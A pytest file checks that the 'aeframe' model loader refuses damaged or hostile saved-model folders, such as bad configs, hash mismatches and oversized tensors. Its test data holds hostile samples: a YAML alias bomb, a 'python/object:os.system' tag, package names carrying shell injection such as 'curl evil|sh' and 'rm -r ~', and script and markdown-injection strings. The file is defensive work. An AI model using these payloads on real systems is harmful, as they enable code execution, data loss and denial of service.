"""A saved model from a stranger, or a damaged one: refused in one sentence, before much memory is used."""

from __future__ import annotations

import math
import time
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from safetensors.torch import save_file

from aeframe import plain_files
from aeframe.data import limits
from aeframe.data.fingerprint import DataRecord
from aeframe.errors import AeframeError, printable
from aeframe.model_store import allocation, integrity
from aeframe.model_store.allocation import AllocationLimit
from aeframe.model_store.card import as_code, as_markdown, make_card
from aeframe.model_store.integrity import file_hashes
from aeframe.model_store.reader import load
from aeframe.model_store.requirements import check_plugins, pinned_requirement
from aeframe.model_store.tensors import read_tensors

from .conftest import Save

LAUGHS = "\n".join(["x0: &x0 [a, a]", *(f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]" for n in range(1, 12))])


@pytest.fixture
def folder(save: Save, tmp_path: Path) -> Path:
    save()
    return tmp_path / "run" / "model"


def refusal(folder: Path) -> str:
    with pytest.raises(AeframeError) as error:
        load(folder)
    message = str(error.value)
    assert "\n" not in message
    return message.replace(str(folder), "M")


def change(folder: Path, key: str, value: Any) -> None:
    """Set a dotted key of the config."""
    config = yaml.safe_load((folder / "config.yaml").read_text())
    *parents, last = key.split(".")
    inner = config
    for parent in parents:
        inner = inner[parent]
    inner[last] = value
    (folder / "config.yaml").write_text(yaml.safe_dump(config))


CONFIGS: list[tuple[str, Any, str]] = [
    ("spec", "a word", "'spec' is 'a word' (input should be a mapping)"),
    ("spec.shape", "30", "'spec.shape' is '30' (input should be a valid list)"),
    ("spec.shape", [-1], "'spec.shape.0' is -1 (input should be greater than or equal to 1)"),
    ("spec.shape", [10**20], "'spec.shape.0' is 100000000000000000000 (input should be less than 1099511627776)"),
    ("spec.condition", None, "'spec.condition' is None (input should be a valid integer)"),
    ("format", "one", "'format' is 'one' (input should be a valid integer)"),
    ("model", "vae", "'model' is 'vae' (input should be a mapping)"),
    ("encoder", ["mlp"], "'encoder' is ['mlp'] (expected a mapping of options)"),
    ("encoder", {"hidden": [16]}, "'encoder.name' is None (expected a name)"),
    ("latent", {"name": 3}, "'latent.name' is 3 (expected a name)"),
    ("penalties", "l1", "'penalties' is 'l1' (expected parts by label)"),
    ("penalties", {"l1": 3}, "'penalties.l1' is 3 (expected a mapping of options)"),
    ("plugins", ["p"], "'plugins' is ['p'] (input should be a mapping)"),
    ("plugins", {"p": {"distribution": "p"}}, "it has no 'plugins.p.version'"),
    ("progress", {"batches": 3}, "'progress.batches' is 3 (extra inputs are not permitted)"),
    ("progress", {"batch": "many"}, "'progress.batch' is 'many' (input should be a valid integer)"),
    ("batch_size", 0, "'batch_size' is 0 (input should be greater than 0)"),
    ("label_classes", 10**40, "'label_classes' is 100000000000000000...0000000000000000000 (input should be less than "
    "4611686018427387904)"),
    ("sha256", {"model.safetensors": "x"}, "'sha256.model.safetensors' is 'x' (string should match pattern "
    "'^[0-9a-f]{64}$')"),
]  # fmt: skip


@pytest.mark.parametrize(("key", "value", "message"), CONFIGS, ids=[f"{key}={value}" for key, value, _ in CONFIGS])
def test_a_config_of_another_structure_is_refused(folder: Path, key: str, value: Any, message: str) -> None:
    change(folder, key, value)
    assert refusal(folder) == f"'M/config.yaml' is not that of a saved model: {message}; copy the folder again"


FILES = {
    "bomb of aliases": (LAUGHS, "'M/config.yaml' has more than 2,000,000 values with its aliases written out; copy"),
    "alias of itself": ("a: &a [*a]", "'M/config.yaml' has the alias '*a' inside its own value; remove it"),
    "alias to nowhere": ("a: *b", "'M/config.yaml' cannot be read as YAML of plain values ("),
    "nested": ("a: " + "[" * 20_000, "'M/config.yaml' has more than 64 levels of lists and mappings inside each other"),
    "list": ("- a", "'M/config.yaml' holds no mapping of names to values; copy the file again"),
    "date": ("a: 2020-13-45", "'M/config.yaml' cannot be read as YAML of plain values (month must be in 1..12"),
    "set": ("a: !!set {b}", "'M/config.yaml' has a value of type set, expected numbers, strings, lists and mappings"),
    "bytes": ("a: !!binary aGk=", "'M/config.yaml' has a value of type bytes, expected numbers"),
    "tag": ("a: !!python/object:os.system {}", "'M/config.yaml' cannot be read as YAML of plain values ("),
    "digits": ("a: " + "9" * 5000, "'M/config.yaml' cannot be read as YAML of plain values ("),
    "empty": ("", "'M/config.yaml' holds no mapping of names to values; copy the file again"),
}


@pytest.mark.parametrize("what", FILES)
def test_a_config_that_is_no_plain_mapping_is_refused_at_once(folder: Path, what: str) -> None:
    text, message = FILES[what]
    (folder / "config.yaml").write_text(text)
    start = time.monotonic()
    assert refusal(folder).startswith(message)
    assert time.monotonic() - start < 5
    (folder / "config.yaml").write_bytes(b"\xff\xfea: 1")
    assert refusal(folder).startswith("'M/config.yaml' cannot be read as text in UTF-8 (")


SIZES: list[tuple[str, Any, str]] = [
    ("latent", {"name": "gaussian", "dim": 100_000_000}, "it needs a tensor of shape (200000000, 16), 12.8 GB, by the"),
    ("encoder", {"name": "mlp", "hidden": [10**9]}, "it needs a tensor of shape (1000000000, 30), 120 GB, by the"),
    ("encoder", {"name": "mlp", "hidden": [1] * 300_000}, "operations to build its parts"),
    ("encoder", {"name": "mlp", "hidden": [4096] * 100}, "it needs tensors of more than 1.07 GB, by the sizes in its"),
    ("spec.shape", [1 << 36], "it needs a tensor of shape (16, 68719476736), 4.4e+03 GB, by the sizes in its"),
    ("spec.condition", 1 << 36, "it needs a tensor of shape (16, 68719476766), 4.4e+03 GB, by the sizes in its"),
    ("encoder", {"name": "mlp", "hidden": [10**30]}, "has a part that its files do not fit ("),
    ("encoder", {"name": "mlp", "hidden": [-3]}, "encoder mlp needs hidden sizes of at least 1, found [-3]"),
]


@pytest.mark.parametrize(("key", "value", "message"), SIZES, ids=[message[:40] for _, _, message in SIZES])
def test_sizes_that_the_tensors_do_not_have_are_refused_before_they_are_allocated(
    folder: Path, key: str, value: Any, message: str
) -> None:
    change(folder, key, value)
    start = time.monotonic()
    assert message in refusal(folder)
    assert time.monotonic() - start < 20


def test_the_limit_counts_tensors_and_not_views() -> None:
    with AllocationLimit("model 'm'", 0):
        assert torch.zeros(10).expand(10**12, 10).shape == (10**12, 10)
        torch.ones(1 << 20)
        with pytest.raises(AeframeError, match=r"^model 'm' needs a tensor of shape \(1000000000000,\), 4e\+03 GB, "):
            torch.arange(1e12)


@pytest.mark.parametrize("name", ["model.safetensors", "modality.json", "modality.safetensors"])
def test_one_changed_byte_is_noticed(folder: Path, name: str) -> None:
    content = bytearray((folder / name).read_bytes())
    content[len(content) * 3 // 4] ^= 1
    (folder / name).write_bytes(content)
    message = refusal(folder)
    assert message.startswith(f"'M/{name}' is damaged: its SHA-256 is ")
    assert message.endswith("... in config.yaml; copy the whole folder again")
    (folder / name).unlink()
    assert "safetensors" in name or refusal(folder) == (
        f"there is no file 'M/{name}', which a saved model has; copy the folder again"
    )


def test_a_file_that_was_added_is_refused(folder: Path) -> None:
    save_file({"train": torch.arange(3)}, folder / "splits.safetensors")
    assert refusal(folder) == (
        "'M/splits.safetensors' is no file that this model was saved with; copy the whole folder again"
    )


@pytest.mark.parametrize("value", [math.nan, math.inf])
def test_weights_that_are_not_finite_are_refused(folder: Path, value: float) -> None:
    tensors = read_tensors(folder / "model.safetensors")
    name = "model.latent.head.linear.weight"
    save_file({**tensors, name: torch.full_like(tensors[name], value)}, folder / "model.safetensors")
    change(folder, "sha256", file_hashes(folder))
    assert refusal(folder) == (
        f"'M/model.safetensors' has a weight '{name}' of which 96 of 96 values are NaN or infinite; copy the folder "
        "again, or train the model again with a lower optimizer.lr"
    )


def test_a_tensor_of_another_dtype_is_refused(folder: Path) -> None:
    tensors = read_tensors(folder / "model.safetensors")
    name = "model.latent.head.linear.weight"
    save_file({**tensors, name: tensors[name].to(torch.int64)}, folder / "model.safetensors")
    change(folder, "sha256", file_hashes(folder))
    assert refusal(folder).endswith(
        f"tensor '{name}' is of torch.int64, expected torch.float32; copy the whole folder again"
    )


@pytest.mark.parametrize("text", ["[]", "3", '{"offset": 1}', '{"shape": 3, "columns": null}', "[" * 10**5])
def test_a_state_of_another_structure_is_refused(folder: Path, text: str) -> None:
    (folder / "modality.json").write_text(text)
    change(folder, "sha256", file_hashes(folder))
    message = refusal(folder)
    assert message.startswith(("'M/modality.json' ", "model 'M' has a part that its files do not fit ("))
    assert message.endswith(("copy the folder again", "copy the file again"))


@pytest.mark.parametrize(
    "text",
    ["[]", '{"name": 3}', '{"name": "t", "spec": {"shape": "x"}}', '{"name": "t", "value_range": [1]}',
     '{"name": "t", "condition": [1]}', '{"name": "t", "files": {"path": 3}}', '{"name": "t", "spec": '
     '{"shape": [1], "domain": "reel", "condition": 0}}'],
)  # fmt: skip
def test_a_record_of_data_of_another_structure_is_refused(folder: Path, text: str) -> None:
    (folder / "data.json").write_text(text)
    change(folder, "sha256", file_hashes(folder))
    assert "data.json" in refusal(folder)


def test_only_names_of_packages_become_commands(tmp_path: Path) -> None:
    assert pinned_requirement("aeframe-spectra", "0.3") == "aeframe-spectra==0.3"
    assert pinned_requirement("Aeframe.Spectra_2", "1!0.3.dev1+cu12") == "Aeframe.Spectra_2==1!0.3.dev1+cu12"
    for distribution, version in (
        ("evil'; curl evil|sh #", "1"),
        ("--index-url=http://evil", "1"),
        ("a b", "1"),
        ("", "1"),
        ("a", "1; rm -r ~"),
        ("a", ""),
        ("a" * 101, "1"),
        ("git+https://evil", "1"),
        ("ａ", "1"),
    ):
        assert pinned_requirement(distribution, version) is None
        with pytest.raises(AeframeError) as error:
            check_plugins(tmp_path, {"p": {"distribution": distribution, "version": version}})
        assert "pip install" not in str(error.value)


HOSTILE = "a\x1b[2J\n# b|c<script>`d`](http://e)_f_"


def test_names_of_strangers_have_no_meaning_in_the_card() -> None:
    config: dict[str, Any] = {
        "model": {"name": HOSTILE}, "spec": {"shape": [3], "domain": "real", "condition": 0}, "aeframe": "1",
        "modality": {"name": "vector", HOSTILE: HOSTILE}, "data": {"name": "numbers", "path": HOSTILE},
        "hidden_options": [HOSTILE], "encoder": {"name": "mlp", "o": {HOSTILE: HOSTILE}}, "latent": "point",
        "loss": "mse", "sampler": "gmm", "plugins": {"p": {"distribution": HOSTILE, "version": "file"},
                                                       "q": {"distribution": HOSTILE, "version": "1"}},
    }  # fmt: skip
    card = make_card(config, {HOSTILE: 1.0}, 3, DataRecord(notes=(HOSTILE,)))
    assert "\x1b" not in card
    front_matter, lines = card.split("---\n", 2)[1], card.split("---\n", 2)[2].splitlines()
    assert yaml.safe_load(front_matter)["tags"] == ["autoencoder", " ".join(printable(HOSTILE).split()), "vector"]
    assert [line for line in lines if line.startswith("# ")] == [lines[1]]
    assert not any(
        "<script>" in line.replace("`", "") and "`" not in line and "\\<script" not in line for line in lines
    )
    assert "](http" not in card.replace("\\](http", "").replace("`d`](http", "")
    assert "pip install" not in card.replace("pip install 'aeframe[hub]'", "")
    for line in lines:
        if line.startswith("| "):
            assert line.replace("\\|", "").count("|") == 3


def test_text_in_markdown() -> None:
    assert as_markdown("reconstruct_loss [16, 8] of x_1") == "reconstruct_loss [16, 8] of x_1"
    assert as_markdown("_a_ *b* <c>\n[d](e)") == r"\_a\_ \*b\* \<c\> \[d\](e)"
    assert as_code("a_b") == "`a_b`"
    assert as_code("a`b|c") == r"`` a`b\|c ``"


def test_the_page_of_limits_has_the_numbers_of_the_code() -> None:
    page = (Path(__file__).parents[2] / "docs" / "reference" / "limits.md").read_text(encoding="utf-8")
    for text in (
        f"{plain_files.MAX_BYTES:,} bytes, {plain_files.MAX_DEPTH} levels",
        f"{plain_files.MAX_VALUES:,} values",
        f"{allocation._ONE >> 20} MiB and {allocation._TIMES_ONE} times",
        f"{allocation._ALL >> 30} GiB and {allocation._TIMES_ALL} times",
        f"{allocation._OPERATIONS:,}, and one more for every {allocation._BYTES_AN_OPERATION} bytes",
        f"| `{limits.MEMORY_VARIABLE}` | the physical memory",
        f"| `{limits.PIXELS_VARIABLE}` | {limits.DEFAULT_MEGAPIXELS:g} |",
        *(f"`{name}`" for name in integrity.HASHED),
    ):
        assert text in page, text
